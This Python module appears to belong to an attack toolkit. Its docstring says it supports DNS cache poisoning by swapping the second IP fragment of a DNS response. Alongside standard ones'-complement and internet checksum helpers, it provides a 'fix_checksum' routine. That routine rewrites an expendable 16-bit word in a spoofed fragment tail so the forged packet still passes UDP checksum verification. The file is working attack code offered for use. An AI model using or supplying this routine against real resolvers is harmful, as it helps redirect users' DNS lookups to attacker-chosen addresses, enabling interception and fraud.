"""Ones'-complement arithmetic: the internet checksum and the tail-fixing trick.

The poisoning attack swaps the second IP fragment of a DNS response. The UDP
checksum travels in the first (genuine) fragment, so the spoofed tail must
keep the ones'-complement sum of the replaced byte range unchanged. That is
done by absorbing the sum delta into one expendable 16-bit word of the tail.
"""

from npl.errors import SlackInsufficient


def ones_complement_sum(data: bytes) -> int:
    """End-around-carry sum of big-endian 16-bit words.

    Odd-length input is zero-padded on the right. Returns a value in
    [0, 0xFFFF]; only an all-zero input sums to 0.
    """
    if len(data) % 2:
        data = data + b"\x00"
    total = 0
    for i in range(0, len(data), 2):
        total += (data[i] << 8) | data[i + 1]
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def ones_complement_add(a: int, b: int) -> int:
    """End-around-carry addition of two 16-bit values."""
    c = a + b
    return (c & 0xFFFF) + (c >> 16)


def internet_checksum(data: bytes) -> int:
    """Complement of the ones'-complement sum (RFC 1071)."""
    return (~ones_complement_sum(data)) & 0xFFFF


def fix_checksum(original_tail: bytes, modified_tail: bytes, slack_offset: int) -> bytes:
    """Equalize a modified tail's ones'-complement sum with the original's.

    Rewrites the 16-bit word at ``slack_offset`` (byte index into
    ``modified_tail``) so that the sums agree modulo 0xFFFF — the congruence
    UDP checksum verification actually depends on. Exact equality holds
    except in the degenerate all-zero-original corner (a sum of 0 cannot be
    produced by a nonzero tail; 0xFFFF, the other representative of zero,
    is produced instead and verifies identically).

    Raises SlackInsufficient when ``slack_offset`` does not address two
    writable bytes inside ``modified_tail``.
    """
    if slack_offset < 0 or slack_offset + 2 > len(modified_tail):
        raise SlackInsufficient(
            f"slack offset {slack_offset} out of bounds for {len(modified_tail)}-byte tail"
        )
    want = ones_complement_sum(original_tail)
    have = ones_complement_sum(modified_tail)
    if want == have:
        return modified_tail
    # A byte at an even index is the high half of a summed word, at an odd
    # index the low half. The two slack bytes therefore carry weights
    # (256, 1) when slack_offset is even and (1, 256) when it is odd; either
    # pair spans all residues mod 0xFFFF.
    w0, w1 = (256, 1) if slack_offset % 2 == 0 else (1, 256)
    current = w0 * modified_tail[slack_offset] + w1 * modified_tail[slack_offset + 1]
    target = (current + want - have) % 0xFFFF
    out = bytearray(modified_tail)
    if w0 == 256:
        out[slack_offset] = target >> 8
        out[slack_offset + 1] = target & 0xFF
    else:
        out[slack_offset] = target & 0xFF
        out[slack_offset + 1] = target >> 8
    return bytes(out)
